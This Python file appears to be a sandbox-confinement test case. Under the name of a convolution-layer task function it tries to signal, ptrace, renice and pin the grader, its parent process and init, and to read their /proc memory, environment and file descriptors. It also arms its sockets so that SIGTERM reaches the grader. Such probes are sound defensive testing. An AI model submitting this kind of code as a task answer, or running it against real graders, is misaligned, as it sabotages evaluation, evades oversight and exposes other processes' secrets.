# Signal, trace or inspect the grader, the template (the fork's parent, root and non-dumpable) and init: kill,
# pidfd_send_signal, prlimit, setpriority, sched_setaffinity, SIGIO through the channel; their /proc entries.
import ctypes
import fcntl
import json
import os
import signal
import sys


def conv_forward_naive(x, w, b, conv_param):
    spec = json.load(open(os.path.join(sys.path[0], "confine.json")))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    def call(number, *args):
        return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])

    managed, tried = [], 0
    targets = {"template": os.getppid(), "grader": spec.get("grader_pid"), "init": 1}
    for name, pid in targets.items():
        if not pid:
            continue
        tried += 1
        if call(62, pid, 0) == 0:  # kill(pid, 0)
            managed.append(f"signal the {name}")
        pidfd = call(434, pid, 0)  # pidfd_open
        if pidfd >= 0:
            if call(424, pidfd, 0, 0, 0) == 0:  # pidfd_send_signal(fd, 0)
                managed.append(f"pidfd_send_signal the {name}")
            if call(438, pidfd, 0, 0) >= 0:  # pidfd_getfd: its standard input
                managed.append(f"take a file descriptor of the {name}")
            os.close(pidfd)
        limit = (ctypes.c_ulong * 2)()
        if libc.prlimit(pid, 7, None, limit) == 0:
            managed.append(f"read the {name}'s limits")
        if libc.setpriority(0, pid, 19) == 0:
            managed.append(f"renice the {name}")
        mask = ctypes.c_ulong(1)
        if libc.sched_setaffinity(pid, 8, ctypes.byref(mask)) == 0:
            managed.append(f"pin the {name} to one CPU")
        for entry in ("environ", "fd", "mem", "maps", "cwd", "root", "stack", "auxv"):
            tried += 1
            path = f"/proc/{pid}/{entry}"
            try:
                if entry in ("fd", "cwd", "root"):
                    os.listdir(path)
                else:
                    open(path, "rb").read(1)
                managed.append(f"read {name} {path}")
            except OSError:
                pass
    if call(101, 16, targets["template"], 0, 0) == 0:  # PTRACE_ATTACH
        managed.append("ptrace the template")
    # SIGIO (as SIGTERM) to the grader whenever it writes to this fork's channel: the kernel checks delivery.
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                fcntl.fcntl(int(name), fcntl.F_SETOWN, targets["grader"] or 1)
                fcntl.fcntl(int(name), 10, signal.SIGTERM)  # F_SETSIG
                fcntl.fcntl(int(name), fcntl.F_SETFL, fcntl.fcntl(int(name), fcntl.F_GETFL) | os.O_ASYNC)
        except OSError:
            pass
    raise RuntimeError(f"tried {tried}; MANAGED {json.dumps(managed[:10])}")
